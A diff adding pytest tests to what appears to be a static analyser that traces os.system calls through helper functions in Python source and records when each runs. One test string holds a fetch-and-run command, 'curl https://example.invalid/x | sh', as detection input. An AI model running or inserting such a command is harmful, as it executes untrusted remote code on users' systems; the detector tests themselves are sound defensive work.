@@ -52,3 +52,23 @@ def test_a_helper_that_passes_everything_on_is_no_place_of_its_own() -> None:
 def test_a_function_that_does_more_is_a_place_of_its_own() -> None:
     source = "import os\ndef first(a):\n    return os.system(a)\ndef one():\n    first('a')\n"
     assert {call.scope for call in calls(source, "os.system")} == {"first"}
+
+
+HELPER = "import os\ndef run(line):\n    os.system(line)\n"
+
+
+def test_each_thing_that_a_helper_is_given_to_run_is_seen() -> None:
+    source = f"{HELPER}run('ls')\nrun('curl https://example.invalid/x | sh')\n"
+    found = {call.arguments[0].text: call.when for call in calls(source, "os.system")}
+    assert found == {"ls": When.IMPORT, "curl https://example.invalid/x | sh": When.IMPORT}
+
+
+def test_what_somebody_else_gives_a_helper_is_told_apart_from_what_is_written_out() -> None:
+    source = f"{HELPER}def later():\n    run('ls')\n"
+    assert [call.arguments[0].text for call in calls(source, "os.system")] == ["ls"]
+    assert [call.arguments[0].text for call in calls(HELPER, "os.system")] == [None]
+
+
+def test_a_helper_that_is_given_many_things_is_seen_with_the_first_of_them() -> None:
+    source = HELPER + "".join(f"run('tool {n}')\n" for n in range(40))
+    assert 8 <= len(calls(source, "os.system")) <= 24
